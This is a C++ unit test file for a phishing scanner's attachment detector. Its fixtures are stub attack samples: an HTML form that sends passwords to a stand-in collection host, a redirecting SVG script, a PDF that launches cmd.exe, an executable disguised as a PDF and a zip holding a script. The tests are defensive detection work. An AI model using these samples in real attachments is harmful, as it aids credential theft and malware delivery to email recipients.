#include <gtest/gtest.h>

#include <string>

#include "detect/detector.h"
#include "detect/detector_test_support.h"
#include "detect/test_mail.h"

namespace phishscan {
namespace {

using testing::Describe;
using testing::FindSignal;
using testing::HasSignal;
using testing::RunDetector;
using testing::TestMail;

const Detector& Attachments() {
  static const std::unique_ptr<Detector> d = MakeAttachmentDetector();
  return *d;
}

std::vector<Signal> WithFile(const std::string& name, const std::string& type, const std::string& content) {
  TestMail m;
  m.text = "Please see the attached file.";
  m.files.push_back({name, type, content});
  return RunDetector(Attachments(), m.Build());
}

TEST(AttachmentTest, HtmlCredentialForm) {
  std::vector<Signal> signals = WithFile(
      "Remittance_Advice.html", "text/html",
      "<html><body><form action=\"https://collect.example.net/p.php\" method=post>"
      "<input name=email><input type=\"password\" name=pass></form>"
      "<script>document.write(atob('PGgxPkxvZ2luPC9oMT4='))</script></body></html>");
  const Signal* s = FindSignal(signals, "attachment.html");
  ASSERT_NE(s, nullptr) << Describe(signals);
  EXPECT_GE(s->weight, 30);
  EXPECT_EQ(s->sign, Sign::kAttachment);
  EXPECT_NE(s->explanation_en.find("password"), std::string::npos);
  EXPECT_NE(s->explanation_fr.find("mot de passe"), std::string::npos);
}

TEST(AttachmentTest, PlainHtmlAttachmentIsModest) {
  std::vector<Signal> signals = WithFile("menu.htm", "text/html", "<html><body><p>Menu of the week</p></body></html>");
  const Signal* s = FindSignal(signals, "attachment.html");
  ASSERT_NE(s, nullptr);
  EXPECT_LT(s->weight, 20);
}

TEST(AttachmentTest, SvgWithScript) {
  std::vector<Signal> signals = WithFile(
      "voicemail.svg", "image/svg+xml",
      "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>window.location.href='https://x.example.net/'</script></svg>");
  const Signal* s = FindSignal(signals, "attachment.html");
  ASSERT_NE(s, nullptr) << Describe(signals);
  EXPECT_GE(s->weight, 20);
}

TEST(AttachmentTest, PdfActions) {
  std::vector<Signal> launch = WithFile("statement.pdf", "application/pdf",
                                        "%PDF-1.7\n1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >>\n%%EOF");
  const Signal* s = FindSignal(launch, "attachment.pdf_action");
  ASSERT_NE(s, nullptr) << Describe(launch);
  EXPECT_EQ(s->weight, 30);

  std::vector<Signal> uri = WithFile("invoice.pdf", "application/pdf",
                                     "%PDF-1.4\n3 0 obj << /Type /Annot /A << /S /URI /URI (https://x.pages.dev/a) >> >>"
                                     "\n%%EOF");
  const Signal* u = FindSignal(uri, "attachment.pdf_action");
  ASSERT_NE(u, nullptr) << Describe(uri);
  EXPECT_EQ(u->weight, 20);  // the link goes to free hosting
  bool link = false;
  for (const auto& [k, v] : u->evidence) link |= k == "link" && v == "https://x.pages.dev/a";
  EXPECT_TRUE(link);

  // A document editor's redirector is looked through; an ordinary site behind it is not risky.
  std::vector<Signal> wrapped = WithFile(
      "Open 8368.pdf", "application/pdf",
      "%PDF-1.4\n3 0 obj << /A << /S /URI /URI (https://www.google.com/url?q=https://x.pages.dev/a&sa=D) >> >>\n%%EOF");
  const Signal* w = FindSignal(wrapped, "attachment.pdf_action");
  ASSERT_NE(w, nullptr) << Describe(wrapped);
  EXPECT_EQ(w->weight, 20);
  std::vector<Signal> plain = WithFile(
      "menu.pdf", "application/pdf",
      "%PDF-1.4\n3 0 obj << /A << /S /URI /URI (https://www.google.com/url?q=https://restaurant.example/&sa=D) >> >>"
      "\n%%EOF");
  const Signal* p = FindSignal(plain, "attachment.pdf_action");
  ASSERT_NE(p, nullptr) << Describe(plain);
  EXPECT_EQ(p->weight, 8);
}

TEST(AttachmentTest, PlainPdfIsFine) {
  EXPECT_TRUE(WithFile("report.pdf", "application/pdf",
                       "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >>\n2 0 obj << /JSONData 1 >>\n%%EOF")
                  .empty());
}

TEST(AttachmentTest, DoubleExtensionAndDangerousTypes) {
  std::vector<Signal> dbl = WithFile("invoice.pdf.exe", "application/octet-stream", "MZ\x90");
  EXPECT_TRUE(HasSignal(dbl, "attachment.double_extension")) << Describe(dbl);
  EXPECT_FALSE(HasSignal(dbl, "attachment.dangerous_type"));
  std::vector<Signal> html = WithFile("scan.pdf.html", "text/html", "<html></html>");
  EXPECT_TRUE(HasSignal(html, "attachment.double_extension")) << Describe(html);
  for (const char* name : {"setup.exe", "update.js", "doc.iso", "Rechnung.lnk", "notes.one", "run.ps1"}) {
    std::vector<Signal> signals = WithFile(name, "application/octet-stream", "data");
    EXPECT_TRUE(HasSignal(signals, "attachment.dangerous_type")) << name;
  }
}

TEST(AttachmentTest, ExecutableDisguisedAsPdf) {
  std::string pe = "MZ";
  pe += std::string(58, '\0');
  pe += std::string("\x80\x00\x00\x00", 4);
  pe += std::string(64, '\0');
  pe += std::string("PE\0\0", 4);
  pe += std::string(200, '\0');
  std::vector<Signal> signals = WithFile("Facture.pdf", "application/pdf", pe);
  const Signal* s = FindSignal(signals, "attachment.type_mismatch");
  ASSERT_NE(s, nullptr) << Describe(signals);
  EXPECT_EQ(s->weight, 35);
  EXPECT_NE(s->explanation_en.find("a program"), std::string::npos);
}

TEST(AttachmentTest, HtmlDisguisedAsPdf) {
  std::vector<Signal> signals =
      WithFile("Rechnung.pdf", "application/pdf", "<!DOCTYPE html><html><head><title>x</title></head><body>"
                                                  "<form><input type=password></form></body></html>");
  EXPECT_TRUE(HasSignal(signals, "attachment.type_mismatch")) << Describe(signals);
}

TEST(AttachmentTest, ZipHoldingAScript) {
  std::string zip("PK\x03\x04", 4);
  zip += std::string(22, '\0');
  std::string entry = "Factura_0931.js";
  zip.push_back(static_cast<char>(entry.size()));
  zip += std::string(3, '\0');
  zip += entry + "var a=1;";
  std::vector<Signal> signals = WithFile("Factura_0931.zip", "application/zip", zip);
  const Signal* s = FindSignal(signals, "attachment.archive_dangerous");
  ASSERT_NE(s, nullptr) << Describe(signals);
  EXPECT_NE(s->explanation_en.find("Factura_0931.js"), std::string::npos);
}

TEST(AttachmentTest, OrdinaryDocumentsAreFine) {
  EXPECT_TRUE(WithFile("photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0 JFIF").empty());
  EXPECT_TRUE(WithFile("notes.txt", "text/plain", "Meeting notes: nothing to see.").empty());
  EXPECT_TRUE(WithFile("budget.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                       std::string("PK\x03\x04", 4) + std::string(22, '\0') + "\x13" + std::string(3, '\0') +
                           "[Content_Types].xml")
                  .empty());
}

}  // namespace
}  // namespace phishscan
